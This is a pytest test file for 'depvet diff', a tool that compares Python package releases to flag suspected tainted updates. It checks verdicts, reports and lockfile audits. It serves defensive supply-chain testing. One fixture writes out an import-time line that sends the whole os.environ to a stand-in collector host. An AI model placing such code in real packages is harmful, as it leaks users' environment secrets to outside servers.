"""depvet diff end to end: fixture releases built here as inert text, compared through the CLI."""

from __future__ import annotations

import io
import json
import sys
from pathlib import Path
from typing import Any

import pytest
from demo.builders import write_sdist, write_wheel

from depvet.cli import EXIT_ERROR, EXIT_FINDINGS, EXIT_OK
from tests.conftest import run_cli
from tests.localindex import LocalIndex
from tests.payloads import tainted_files

CORE = '''"""Formatting helpers."""
import json


def render(value):
    return json.dumps(value, indent=2)


def parse(text):
    return json.loads(text)
'''
INIT = '"""pkg: formats things."""\nfrom pkg.core import parse, render\n\n__all__ = ["parse", "render"]\n'
METADATA_10 = (
    "Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\nAuthor-email: Jane Doe <jane@example.org>\n"
    "Project-URL: Source, https://github.com/example/pkg\nRequires-Dist: packaging>=21\n\n"
)


def _release(directory: Path, version: str, files: dict[str, str], *, sdist: bool = False) -> Path:
    metadata = METADATA_10.replace("Version: 1.0", f"Version: {version}")
    if sdist:
        return write_sdist(directory, "pkg", version, {**files, "PKG-INFO": metadata})
    return write_wheel(directory, "pkg", version, {**files, f"pkg-{version}.dist-info/METADATA": metadata})


def _clean(directory: Path, version: str = "1.0", **kwargs: Any) -> Path:
    return _release(directory, version, {"pkg/__init__.py": INIT, "pkg/core.py": CORE}, **kwargs)


def _tainted(directory: Path, **kwargs: Any) -> Path:
    files = {
        "pkg/__init__.py": INIT,
        "pkg/core.py": CORE,
        **tainted_files("pkg"),
    }
    return _release(directory, "1.1", files, **kwargs)


def _refactor(directory: Path) -> Path:
    """A large ordinary release: modules split and renamed, many new functions, a new feature
    that fetches over HTTP when called, a new console script and dependency."""
    modules = {f"pkg/formats/fmt{i}.py": _module(i) for i in range(40)}
    files = {
        "pkg/__init__.py": INIT.replace("pkg.core", "pkg.formats.core"),
        "pkg/formats/__init__.py": "",
        "pkg/formats/core.py": CORE + "\n\ndef render_compact(value):\n    return json.dumps(value)\n",
        "pkg/remote.py": (
            "import urllib.request\n\n\ndef load(url, timeout=10):\n"
            '    """Fetch a document to format."""\n'
            "    with urllib.request.urlopen(url, timeout=timeout) as response:\n"
            "        return response.read().decode()\n"
        ),
        "pkg/cli.py": "import sys\n\nfrom pkg import render\n\n\ndef main():\n    print(render(sys.argv[1:]))\n",
        "tests/test_core.py": "from pkg import render\n\n\ndef test_render():\n    assert render(1) == '1'\n",
        "pkg-1.2.dist-info/entry_points.txt": "[console_scripts]\npkg-format = pkg.cli:main\n",
        **modules,
    }
    metadata = METADATA_10.replace("Version: 1.0", "Version: 1.2") + ""
    metadata = metadata.replace(
        "Requires-Dist: packaging>=21\n", "Requires-Dist: packaging>=22\nRequires-Dist: rich>=13\n"
    )
    return write_wheel(directory, "pkg", "1.2", {**files, "pkg-1.2.dist-info/METADATA": metadata})


def _module(i: int) -> str:
    return (
        f'"""Format number {i}."""\n\n\nclass Format{i}:\n    name = "fmt{i}"\n\n'
        f"    def render(self, value):\n        return f'{{self.name}}:{{value}}'\n\n"
        f"    def parse(self, text):\n        return text.split(':', 1)[1]\n"
    )


def _diff_json(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, dict[str, Any]]:
    code, out, err = run_cli(["diff", *args, "--format", "json", "-q"], capsys)
    assert code in (EXIT_OK, EXIT_FINDINGS), err
    return code, json.loads(out)


def test_a_tainted_update_adding_a_pth_payload_is_suspected(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    old, new = _clean(tmp_path), _tainted(tmp_path)
    code, document = _diff_json(capsys, str(old), str(new))
    assert code == EXIT_FINDINGS
    (diff,) = document["diffs"]
    assert diff["verdict"] == "tainted-update-suspected"
    assert (diff["old"]["version"], diff["new"]["version"]) == ("1.0", "1.1")
    # The .pth is on top, then what the update gained.
    top = diff["reasons"][0]
    assert top["path"] == "pkg_init.pth"
    assert top["severity"] == "critical"
    assert diff["startup_files"] == ["pkg_init.pth"]
    gained = {c["capability"]: c for c in diff["capabilities"] if c["gained"]}
    assert {"network", "secrets", "environment", "dynamic-code"} <= set(gained)
    assert gained["dynamic-code"]["new_uses"][0]["path"] == "pkg_init.pth"
    assert any(u["path"] == "pkg/_telemetry.py" for u in gained["network"]["new_uses"])
    assert {"domain", "models-telemetry.example.net"} <= {
        v for e in diff["new_endpoints"] for v in (e["kind"], e["value"])
    }
    added = {f["path"] for f in diff["files"]["added"]}
    assert added == {"pkg_init.pth", "pkg/_telemetry.py"}
    assert diff["files"]["unchanged"] == 3  # __init__.py, core.py and WHEEL


def test_the_same_update_as_sdists(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    old, new = _clean(tmp_path, sdist=True), _tainted(tmp_path, sdist=True)
    code, document = _diff_json(capsys, str(old), str(new))
    assert code == EXIT_FINDINGS
    (diff,) = document["diffs"]
    assert diff["verdict"] == "tainted-update-suspected"
    assert {f["path"].split("/", 1)[1] for f in diff["files"]["added"]} == {
        "pkg_init.pth",
        "pkg/_telemetry.py",
    }


def test_a_large_ordinary_refactor_is_ordinary(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    old, new = _clean(tmp_path), _refactor(tmp_path)
    code, document = _diff_json(capsys, str(old), str(new))
    assert code == EXIT_OK
    (diff,) = document["diffs"]
    assert diff["verdict"] == "ordinary", diff["reasons"]
    assert len(diff["files"]["added"]) > 40
    assert diff["files"]["removed"] == [{"path": "pkg/core.py", "size": len(CORE)}]
    # What changed is still all there for a reviewer.
    network = next(c for c in diff["capabilities"] if c["capability"] == "network")
    assert network["gained"]
    assert not network["gained_in_code_that_runs_on_its_own"]
    assert network["new_uses"][0]["context"] == "called"
    dependencies = {d["field"]: (d["old"], d["new"]) for d in diff["dependencies"]}
    assert dependencies == {"rich": (None, "rich>=13"), "packaging": ("packaging>=21", "packaging>=22")}
    fields = {m["field"] for m in diff["metadata"]}
    assert "entry-point console_scripts pkg-format" in fields
    init = next(f for f in diff["files"]["changed"] if f["path"] == "pkg/__init__.py")
    assert init["functions_added"] == []
    assert init["old_size"] < init["new_size"]


def test_changed_functions_are_named(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    old = _clean(tmp_path)
    core = CORE.replace("indent=2", "indent=4") + "\n\ndef dump(value, path):\n    pass\n"
    new = _release(tmp_path, "1.1", {"pkg/__init__.py": INIT, "pkg/core.py": core})
    _, document = _diff_json(capsys, str(old), str(new))
    (changed,) = [f for f in document["diffs"][0]["files"]["changed"] if f["path"] == "pkg/core.py"]
    assert changed["functions_added"] == ["dump"]
    assert changed["functions_changed"] == ["render"]
    assert document["diffs"][0]["verdict"] == "ordinary"


def test_a_multi_line_signature_does_not_end_its_function(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """``) -> str:`` at the def's indent closes the signature; the body and its nested
    function still belong to the definition, and a change there changes it."""
    body = (
        "def render(\n    value,\n    indent=2,\n) -> str:\n"
        "    def inner(item):\n        return item\n\n"
        "    return json.dumps(inner(value), indent=indent)\n"
    )
    old_core, new_core = CORE + "\n\n" + body, CORE + "\n\n" + body.replace("indent=indent", "indent=1")
    old = _release(tmp_path, "1.0", {"pkg/__init__.py": INIT, "pkg/core.py": old_core})
    new = _release(tmp_path, "1.1", {"pkg/__init__.py": INIT, "pkg/core.py": new_core})
    _, document = _diff_json(capsys, str(old), str(new))
    (changed,) = [f for f in document["diffs"][0]["files"]["changed"] if f["path"] == "pkg/core.py"]
    assert changed["functions_changed"] == ["render"]
    assert changed["functions_added"] == changed["functions_removed"] == []


def test_code_moved_out_of_a_function_into_module_level_gains_start_up_reach(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The same lines, dedented, now run on import: the changed module is analysed, not
    skipped as a module whose lines are all old ones."""
    helper = (
        "import os\nimport urllib.request\n\n\ndef report():\n"
        "    urllib.request.urlopen('https://collector.example.net/v1', data=repr(dict(os.environ)).encode())\n"
    )
    moved = (
        "import os\nimport urllib.request\n\n\ndef report():\n    pass\n\n"
        "urllib.request.urlopen('https://collector.example.net/v1', data=repr(dict(os.environ)).encode())\n"
    )
    files = {"pkg/__init__.py": INIT + "import pkg.helper\n", "pkg/core.py": CORE}
    old = _release(tmp_path, "1.0", {**files, "pkg/helper.py": helper})
    new = _release(tmp_path, "1.1", {**files, "pkg/helper.py": moved})
    _, document = _diff_json(capsys, str(old), str(new))
    (diff,) = document["diffs"]
    on_own = {c["capability"] for c in diff["capabilities"] if c["gained_in_code_that_runs_on_its_own"]}
    assert "network" in on_own
    assert any(r["rule_id"] == "DV022" and r["path"] == "pkg/helper.py" for r in diff["reasons"])


def test_a_capability_in_a_module_edited_in_words_only_was_there_before(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """upload.py changes only a docstring and a comment, so neither of its versions is analysed;
    core.py gains a network call. upload.py's old version still counts as having had it."""
    sender = (
        '"""Upload results."""\nimport urllib.request\n\n\ndef upload(url, data):\n'
        "    return urllib.request.urlopen(url, data=data)\n"
    )
    edited = sender.replace('"""Upload results."""', '"""Upload results to a server."""').replace(
        "    return", "    # Retries are the caller's job.\n    return"
    )
    fetching = (
        CORE
        + "\n\ndef fetch(url):\n    import urllib.request\n    return urllib.request.urlopen(url).read()\n"
    )
    old = _release(tmp_path, "1.0", {"pkg/__init__.py": INIT, "pkg/core.py": CORE, "pkg/upload.py": sender})
    new = _release(
        tmp_path, "1.1", {"pkg/__init__.py": INIT, "pkg/core.py": fetching, "pkg/upload.py": edited}
    )
    _, document = _diff_json(capsys, str(old), str(new))
    (diff,) = document["diffs"]
    assert diff["verdict"] == "ordinary"
    network = next(c for c in diff["capabilities"] if c["capability"] == "network")
    assert not network["gained"]
    assert {u["path"] for u in network["new_uses"]} == {"pkg/core.py"}
    changed = {f["path"]: f for f in diff["files"]["changed"]}
    assert changed["pkg/upload.py"]["functions_changed"] == ["upload"]
    assert changed["pkg/core.py"]["functions_added"] == ["fetch"]


def test_terminal_report_is_compact_with_details_on_demand(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    old, new = _clean(tmp_path), _tainted(tmp_path)
    code, out, _ = run_cli(["diff", str(old), str(new), "-q"], capsys)
    assert code == EXIT_FINDINGS
    assert "tainted-update-suspected" in out
    assert "DV020" in out
    assert "capabilities used by new or changed code" not in out
    code, details, _ = run_cli(["diff", str(old), str(new), "-q", "--details"], capsys)
    assert "capabilities used by new or changed code" in details
    assert "models-telemetry.example.net" in details


def test_sarif_output_validates(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from tests.report.test_sarif import SCHEMA_PATH, validate

    old, new = _clean(tmp_path), _tainted(tmp_path)
    code, out, _ = run_cli(["diff", str(old), str(new), "-q", "--format", "sarif"], capsys)
    assert code == EXIT_FINDINGS
    log = json.loads(out)
    validate(log, json.loads(SCHEMA_PATH.read_text(encoding="utf-8")))
    results = log["runs"][0]["results"]
    assert {"DV020", "DV101"} <= {r["ruleId"] for r in results}
    assert {r["properties"]["verdict"] for r in results} == {"tainted-update-suspected"}
    rule_ids = {r["id"] for r in log["runs"][0]["tool"]["driver"]["rules"]}
    assert "DV020" in rule_ids


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["only-one"], "diff takes OLD NEW"),
        (["a", "b", "c", "d"], "diff takes OLD NEW"),
        (["--locks", "a.lock"], "two lockfiles"),
        (["--locks", "-", "-"], "only one of the two"),
    ],
)
def test_usage_errors(args: list[str], message: str, capsys: pytest.CaptureFixture[str]) -> None:
    code, _, err = run_cli(["diff", *args], capsys)
    assert code == EXIT_ERROR
    assert message in err
    assert "Traceback" not in err


def test_a_wheel_is_not_compared_with_an_sdist(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    old, new = _clean(tmp_path, sdist=True), _tainted(tmp_path)
    code, _, err = run_cli(["diff", str(old), str(new), "-q"], capsys)
    assert code == EXIT_ERROR
    assert "wheel to wheel or sdist to sdist" in err


def test_a_corrupt_or_missing_artifact_is_an_error_not_a_verdict(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    old = _clean(tmp_path)
    broken = tmp_path / "pkg-1.1-py3-none-any.whl"
    broken.write_bytes(old.read_bytes()[:200])
    code, out, err = run_cli(["diff", str(old), str(broken), "--format", "json", "-q"], capsys)
    assert code == EXIT_ERROR
    (diff,) = json.loads(out)["diffs"]
    assert diff["verdict"] == "error"
    assert diff["error"]
    assert err.count("\n") == 1
    assert "Traceback" not in err
    code, _, err = run_cli(["diff", str(old), str(tmp_path / "missing.whl"), "-q"], capsys)
    assert code == EXIT_ERROR
    assert "no such file" in err


# -- by name and by lock, from an index on 127.0.0.1 -------------------------------------------------


@pytest.fixture
def index(tmp_path: Path) -> Any:
    local = LocalIndex(tmp_path / "index")
    built = tmp_path / "built"
    built.mkdir()
    local.add("pkg", _clean(built))
    local.add("pkg", _tainted(built))
    local.add("other", write_wheel(built, "other", "2.0", {"other/__init__.py": "X = 2\n"}))
    local.add("other", write_wheel(built, "other", "2.1", {"other/__init__.py": "X = 3\n"}))
    with local.serve():
        yield local


def test_releases_named_by_version_are_fetched_and_compared(
    index: LocalIndex, capsys: pytest.CaptureFixture[str]
) -> None:
    code, document = _diff_json(capsys, "pkg", "1.0", "1.1", "-i", index.url)
    assert code == EXIT_FINDINGS
    (diff,) = document["diffs"]
    assert diff["verdict"] == "tainted-update-suspected"
    assert diff["new"]["target"] == "pkg-1.1-py3-none-any.whl"
    code, _out, err = run_cli(["diff", "pkg", "1.0", "9.9", "-i", index.url, "-q"], capsys)
    assert code == EXIT_ERROR
    assert "9.9" in err


def test_an_unreachable_index_is_a_clear_error(dead_url: str, capsys: pytest.CaptureFixture[str]) -> None:
    code, _, err = run_cli(["diff", "pkg", "1.0", "1.1", "-i", f"{dead_url}/simple/", "-q"], capsys)
    assert code == EXIT_ERROR
    assert "Traceback" not in err
    assert err.strip()


def _lock(path: Path, pins: dict[str, str]) -> None:
    path.parent.mkdir()
    path.write_text("".join(f"{name}=={version}\n" for name, version in pins.items()))


def test_lock_upgrade_audit_diffs_every_changed_pin(
    tmp_path: Path, index: LocalIndex, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    old = tmp_path / "old" / "requirements.txt"
    new = tmp_path / "new" / "requirements.txt"
    _lock(old, {"pkg": "1.0", "other": "2.0", "gone": "0.1"})
    _lock(new, {"pkg": "1.1", "other": "2.1", "fresh": "3.0"})
    code, document = _diff_json(capsys, "--locks", str(old), str(new), "-i", index.url)
    assert code == EXIT_FINDINGS
    verdicts = {d["name"]: d["verdict"] for d in document["diffs"]}
    assert verdicts == {"pkg": "tainted-update-suspected", "other": "ordinary"}
    assert document["packages"] == {"added": ["fresh==3.0"], "removed": ["gone==0.1"], "unchanged": 0}
    # The old lock from stdin, as in: git show HEAD~1:pylock.toml | depvet diff --locks - pylock.toml
    monkeypatch.setattr(sys, "stdin", io.StringIO(old.read_text()))
    code, again = _diff_json(capsys, "--locks", "-", str(new), "-i", index.url)
    assert code == EXIT_FINDINGS
    assert {d["name"] for d in again["diffs"]} == {"pkg", "other"}


def test_scan_with_a_baseline_scans_and_diffs_only_what_changed(
    tmp_path: Path, index: LocalIndex, capsys: pytest.CaptureFixture[str]
) -> None:
    old = tmp_path / "old" / "requirements.txt"
    new = tmp_path / "new" / "requirements.txt"
    _lock(old, {"pkg": "1.0", "other": "2.0"})
    _lock(new, {"pkg": "1.1", "other": "2.0"})
    args = ["scan", str(new), "--baseline", str(old), "-i", index.url, "--format", "json", "-q", "--no-cache"]
    code, out, err = run_cli(args, capsys)
    assert code == EXIT_FINDINGS, err
    document = json.loads(out)
    assert [r["name"] for r in document["results"]] == ["pkg"]
    (diff,) = document["diffs"]
    assert (diff["name"], diff["verdict"]) == ("pkg", "tainted-update-suspected")
